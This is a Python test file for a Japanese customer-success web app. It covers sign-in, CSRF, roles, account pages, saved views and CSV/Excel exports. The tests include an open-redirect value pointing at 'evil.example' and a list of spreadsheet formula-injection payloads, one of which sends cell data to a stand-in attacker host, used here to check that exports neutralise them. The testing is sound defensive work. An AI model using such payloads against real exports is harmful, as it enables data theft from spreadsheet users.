"""Sign-in, CSRF, roles, the accounts list and the account page, through the web routes."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pyarrow as pa
from fastapi.testclient import TestClient
from sqlalchemy import Connection
from sqlalchemy.orm import Session, sessionmaker

from kasasu.domain.choices import BillingInterval, Role, SubscriptionStatus
from kasasu.events.schemas import BATCH_SCHEMA
from kasasu.events.service import append_events
from kasasu.health.features import RefreshConfig, compute_features
from kasasu.health.service import score_day
from kasasu.models import Account, SavedView, Subscription
from kasasu.warehouse.source import AnalyticsSource
from tests.health.golden_health import AS_OF, add_health_base, write_health_events
from tests.support.queries import counted
from tests.web.conftest import PASSWORD, SignIn, csrf


def test_visitors_are_sent_to_sign_in_and_back(web: TestClient, sign_in: SignIn) -> None:
    r = web.get("/accounts")
    assert (r.status_code, r.headers["location"]) == (303, "/login?next=/accounts")
    page = web.get("/login?next=/accounts").text
    assert "<h1>Sign in</h1>" in page
    form = {"email": "nobody@example.com", "password": "x", "csrf_token": csrf(page)}
    wrong = web.post("/login", data=form | {"next": "/accounts"})
    assert wrong.status_code == 401
    assert "Wrong email or password" in wrong.text


def test_sign_in_goes_only_to_local_pages(web: TestClient, sign_in: SignIn) -> None:
    sign_in(Role.ADMIN)
    web.post("/logout", data={"csrf_token": csrf(web.get("/accounts").text)})
    token = csrf(web.get("/login").text)
    form = {"email": "admin@example.com", "password": PASSWORD, "csrf_token": token}
    r = web.post("/login", data=form | {"next": "//evil.example/steal"})
    assert r.headers["location"] == "/"


def test_forms_without_the_csrf_token_are_refused(web: TestClient, sign_in: SignIn) -> None:
    sign_in(Role.CSM)
    r = web.post("/logout", data={"csrf_token": "forged"})
    assert r.status_code == 403
    assert "The form has expired" in r.text


def test_a_language_picked_before_signing_in_stays(web: TestClient, sign_in: SignIn) -> None:
    assert "<h1>サインイン</h1>" in web.get("/login?lang=ja").text
    sign_in(Role.CSM)
    assert "<h1>顧客企業</h1>" in web.get("/accounts").text


def test_language_switch_sticks_for_the_session(web: TestClient, sign_in: SignIn) -> None:
    sign_in(Role.ADMIN)
    assert "<h1>顧客企業</h1>" in web.get("/accounts?lang=ja").text
    assert "<h1>顧客企業</h1>" in web.get("/accounts").text
    assert "<h1>Accounts</h1>" in web.get("/accounts?lang=en").text


def _accounts(session: Session, owner: int | None, n: int, prefix: str) -> list[int]:
    rows = [
        Account(
            external_id=f"{prefix}{i}",
            name=f"{prefix} 株式会社{i}",
            name_kana=f"{prefix}カブシキガイシャ{i}",
            owner_id=owner,
            custom_fields={},
        )
        for i in range(n)
    ]
    session.add_all(rows)
    session.flush()
    return [r.id for r in rows]


def test_a_csm_starts_on_their_accounts(
    web: TestClient, sign_in: SignIn, sessions: sessionmaker[Session]
) -> None:
    me = sign_in(Role.CSM)
    with sessions() as s:
        _accounts(s, me, 3, "MINE")
        _accounts(s, None, 4, "OTHER")
        s.commit()
    mine = web.get("/accounts").text
    assert "3 accounts" in mine
    assert "OTHER" not in mine
    everyone = web.get("/accounts?mine=0").text
    assert "7 accounts" in everyone
    # Kana search, and the partial table htmx asks for.
    found = web.get("/accounts?mine=0&q=OTHERカブシキガイシャ2", headers={"HX-Request": "true"})
    assert "1 accounts" in found.text
    assert "<h1>" not in found.text  # only the rows


def test_a_viewer_cannot_log_notes(
    web: TestClient, sign_in: SignIn, sessions: sessionmaker[Session]
) -> None:
    sign_in(Role.VIEWER)
    with sessions() as s:
        [account_id] = _accounts(s, None, 1, "V")
        s.commit()
    page = web.get(f"/accounts/{account_id}").text
    assert "Log note" not in page
    r = web.post(f"/accounts/{account_id}/notes", data={"body": "x", "csrf_token": csrf(page)})
    assert r.status_code == 403


def test_the_account_page_explains_health_and_logs_notes(
    web: TestClient, sign_in: SignIn, sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    sign_in(Role.CSM)
    with sessions() as s:
        ids = add_health_base(s)
        config = RefreshConfig(
            "Asia/Tokyo",
            "JPY",
            source=AnalyticsSource(events_path=write_health_events(tmp_path / "e")),
        )
        compute_features(s, [AS_OF], config)
        score_day(s, AS_OF)
        s.commit()
    page = web.get(f"/accounts/{ids['H1']}").text
    assert "<h1>株式会社H1</h1>" in page
    assert "Health 69.2 (yellow) on 2026-02-01" in page  # as tests/health/test_scores.py
    assert "¥30,000" in page  # MRR in the header
    # The golden events are from 2025-26: none in the 90 days before today.
    assert "No usage events in the last 90 days." in page
    assert '"mrr_days": ["2026-02-01"]' in page  # one snapshot so far
    # Three events two days ago by two users, in the event store the pages read.
    two_days_ago = datetime.now(UTC).replace(microsecond=0) - timedelta(days=2)
    recent = pa.table(
        {
            "event_id": ["r1", "r2", "r3"],
            "account_external_id": ["H1"] * 3,
            "user_id": ["u1", "u2", "u1"],
            "event_name": ["login"] * 3,
            "occurred_at": [two_days_ago] * 3,
            "value": [None] * 3,
            "properties": ["{}"] * 3,
        },
        schema=BATCH_SCHEMA,
    )
    append_events(tmp_path / "events.duckdb", recent)
    assert "3 events and up to 2 users a day" in web.get(f"/accounts/{ids['H1']}").text
    form = {"body": "更新前の電話: 予算は確保済み", "kind": "call", "csrf_token": csrf(page)}
    blank = web.post(f"/accounts/{ids['H1']}/notes", data=form | {"body": "   "})
    assert blank.status_code == 422  # the page again, the mistake under the note
    assert "Write something to log" in blank.text
    r = web.post(f"/accounts/{ids['H1']}/notes", data=form)
    assert r.status_code == 303
    after = web.get(f"/accounts/{ids['H1']}").text
    assert "更新前の電話: 予算は確保済み" in after
    assert "Call" in after


def test_list_and_account_pages_cost_the_same_for_few_or_many_rows(
    web: TestClient, sign_in: SignIn, sessions: sessionmaker[Session], connection: Connection
) -> None:
    me = sign_in(Role.ADMIN)
    with sessions() as s:
        few = _accounts(s, me, 2, "FEW")
        s.commit()

    def queries(path: str) -> int:
        web.get(path)  # warm
        with counted(connection) as statements:
            assert web.get(path).status_code == 200
        return len(statements)

    list_few, page_few = queries("/accounts?mine=0"), queries(f"/accounts/{few[0]}")
    with sessions() as s:
        _accounts(s, me, 40, "MANY")
        s.commit()
    assert queries("/accounts?mine=0") == list_few
    assert queries(f"/accounts/{few[0]}") == page_few


def test_filter_by_band_and_renewal_window(
    web: TestClient, sign_in: SignIn, sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    sign_in(Role.ADMIN)
    with sessions() as s:
        ids = add_health_base(s)
        config = RefreshConfig(
            "Asia/Tokyo",
            "JPY",
            source=AnalyticsSource(events_path=write_health_events(tmp_path / "e")),
        )
        compute_features(s, [AS_OF], config)
        score_day(s, AS_OF)  # H1 yellow, H2 unknown (tests/health/test_scores.py)
        s.commit()
    yellow = web.get("/accounts?mine=0&band=yellow").text
    assert "1 accounts" in yellow
    assert "株式会社H1" in yellow
    assert "株式会社H2" not in yellow
    assert "株式会社H2" in web.get("/accounts?mine=0&band=unknown").text
    # H1's line ended on 2026-02-20; give H2 a line renewing in 10 days.
    today = datetime.now(ZoneInfo("Asia/Tokyo")).date()
    with sessions() as s:
        s.add(
            Subscription(
                external_id="RENEW-SOON",
                account_id=ids["H2"],
                product="Core",
                amount=10_000,
                currency="JPY",
                billing_interval=BillingInterval.MONTH,
                start_date=today - timedelta(days=20),
                end_date=today + timedelta(days=10),
                status=SubscriptionStatus.ACTIVE,
            )
        )
        s.commit()
    soon = web.get("/accounts?mine=0&renews=30").text
    assert "1 accounts" in soon
    assert "株式会社H2" in soon


def test_export_holds_the_filtered_accounts(
    web: TestClient, sign_in: SignIn, sessions: sessionmaker[Session]
) -> None:
    me = sign_in(Role.CSM)
    with sessions() as s:
        _accounts(s, me, 3, "MINE")
        _accounts(s, None, 2, "OTHER")
        s.commit()
    listing = web.get("/accounts").text
    assert "/accounts/export?format=csv" in listing
    csv_file = web.get("/accounts/export?format=csv")  # …and the export reads it too
    assert csv_file.headers["content-type"].startswith("text/csv")
    text = csv_file.content.decode("utf-8-sig")
    lines = text.strip().split("\r\n")
    assert lines[0].startswith("Id,Name,Plan")
    assert sorted(line.split(",")[0] for line in lines[1:]) == ["MINE0", "MINE1", "MINE2"]
    everyone = web.get("/accounts/export?format=xlsx&mine=0")
    assert everyone.content[:2] == b"PK"  # an xlsx is a zip
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(everyone.content)).active
    assert sheet is not None
    assert sheet.max_row == 6  # header + 5 accounts


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\tx=1"]


def test_exports_never_hold_formulas(
    web: TestClient, sign_in: SignIn, sessions: sessionmaker[Session]
) -> None:
    """Security review F6: names that look like formulas stay text in CSV and Excel."""
    sign_in(Role.ADMIN)
    names = HOSTILE
    with sessions() as s:
        for n, name in enumerate(names):
            s.add(Account(external_id=f"F{n}", name=name, custom_fields={}))
        s.commit()
    text = web.get("/accounts/export?format=csv&mine=0").content.decode("utf-8-sig")
    cells = {row[0]: row[1] for row in csv.reader(io.StringIO(text))}
    assert [cells[f"F{n}"] for n in range(len(names))] == ["'" + name for name in names]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(web.get("/accounts/export?format=xlsx&mine=0").content)).active
    assert sheet is not None
    stored = {r[0].value: r[1] for r in sheet.iter_rows(min_row=2)}
    assert [stored[f"F{n}"].value for n in range(len(names))] == names  # as written
    assert {stored[f"F{n}"].data_type for n in range(len(names))} == {"s"}  # none a formula


def test_saved_views_keep_the_filters(
    web: TestClient, sign_in: SignIn, sessions: sessionmaker[Session]
) -> None:
    sign_in(Role.ADMIN)
    with sessions() as s:
        _accounts(s, None, 2, "KEEP")
        _accounts(s, None, 2, "DROP")
        s.commit()
    page = web.get("/accounts?mine=0&q=KEEP").text
    # With htmx the filter form's fields come along; without it, the page's query string.
    fields = {"csrf_token": csrf(page), "name": "キープ", "q": "KEEP", "mine": "0", "sort": "name"}
    r = web.post("/accounts/views", data=fields, headers={"HX-Request": "true"})
    assert r.headers["HX-Redirect"] == "/accounts?q=KEEP&mine=0&sort=name"
    plain = {"csrf_token": csrf(page), "name": "all", "query": "mine=0&cursor=abc"}
    assert web.post("/accounts/views", data=plain).headers["location"] == "/accounts?mine=0"
    listing = web.get("/accounts").text
    assert '<a href="/accounts?q=KEEP&amp;mine=0&amp;sort=name">キープ</a>' in listing
    view = web.get("/accounts?q=KEEP&mine=0&sort=name").text
    assert "2 accounts" in view
    assert "DROP" not in view
    with sessions() as s:
        [saved] = s.query(SavedView).filter_by(name="キープ").all()
        view_id = saved.id
    deleted = web.post(f"/accounts/views/{view_id}/delete", data={"csrf_token": csrf(page)})
    assert deleted.status_code == 303
    assert "キープ" not in web.get("/accounts").text
